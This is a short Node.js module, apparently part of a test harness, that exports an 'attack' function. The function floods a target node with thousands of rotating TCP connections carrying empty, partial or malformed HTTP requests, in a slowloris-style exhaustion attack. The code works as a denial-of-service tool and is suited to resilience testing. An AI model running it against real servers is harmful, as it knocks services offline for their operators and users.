// Three thousand connections from one address that ask nothing, ask by halves, or leave their half open.
import { once } from "node:events";
import { connect } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";

const BEGINNINGS = [
  "",
  "GET /version HTTP/1.1\r\nHost: a\r\nX: ",
  "GARBAGE\r\n\r\n",
  "POST /api/v1/pow/init HTTP/1.1\r\nHost: a\r\nContent-Length: 100000\r\n\r\n{",
  "GET /version HTTP/1.1\r\nHost: a\r\n\r\n",
];
const COUNT = 3000;

export const isStranger = true;

export async function attack({ host, port, localAddress }) {
  const sockets = [];
  for (let i = 0; ; i++) {
    // In the place of one that was opened long ago: the node may have ended it or not.
    sockets[i % COUNT]?.destroy();
    const socket = connect({ host, port, localAddress, allowHalfOpen: true });
    sockets[i % COUNT] = socket;
    socket.on("error", () => {}).resume();
    await Promise.race([once(socket, "connect"), once(socket, "close")]);
    socket.write(BEGINNINGS[i % BEGINNINGS.length]);
    if (i > COUNT) await sleep(1);
  }
}
